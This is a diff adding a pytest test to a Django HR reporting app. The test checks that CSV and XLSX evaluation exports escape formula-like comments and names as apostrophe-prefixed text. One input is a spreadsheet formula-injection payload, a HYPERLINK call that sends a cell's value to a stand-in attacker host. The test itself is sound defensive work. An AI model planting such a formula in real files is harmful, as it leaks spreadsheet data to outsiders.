@@ -6,6 +6,7 @@ import openpyxl
 import pytest
 from pypdf import PdfReader
 
+from lms.models import StaffProfile
 from reports.models import AuditEntry, EvaluationPeriod, PeriodStatus
 from reports.services.evaluation import evaluation_period_open
 
@@ -109,3 +110,27 @@ def test_ministry_period_is_visible_to_regional_hr_for_their_people_only(client,
     ministry.refresh_from_db()
     assert ministry.status == PeriodStatus.OPEN
     assert client.get(f"/reports/evaluations/{ministry.pk}/people/{people['jp1'].pk}/").status_code == 404
+
+
+def test_evaluation_exports_neutralise_formula_like_comments_and_names(client, hr_eu, period, scored, people):
+    # given a comment and a name that a spreadsheet would run as formulas
+    comment = '=HYPERLINK("https://evil.example/?d="&B2,"Xem")'
+    StaffProfile.objects.filter(pk=people["fr2"].pk).update(full_name="=1+2")
+    client.force_login(hr_eu.user)
+    client.post(f"/reports/evaluations/{period.pk}/people/{people['fr1'].pk}/", {"comment": comment})
+
+    # when exported as CSV, then both come out apostrophe-prefixed
+    body = b"".join(client.get(f"/reports/export/evaluation.csv?period={period.pk}").streaming_content)
+    rows = {r[0]: r for r in csv.reader(io.StringIO(body.decode("utf-8-sig")))}
+    assert rows[people["fr1"].employee_number][-1] == "'" + comment
+    assert rows[people["fr2"].employee_number][1] == "'=1+2"
+
+    # and as XLSX, they are text cells, not formulas
+    response = client.get(f"/reports/export/evaluation.xlsx?period={period.pk}")
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    by_number = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
+    comment_cell = by_number[people["fr1"].employee_number][-1]
+    name_cell = by_number[people["fr2"].employee_number][1]
+    assert comment_cell.value == "'" + comment and comment_cell.data_type == "s"
+    assert name_cell.value == "'=1+2" and name_cell.data_type == "s"
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
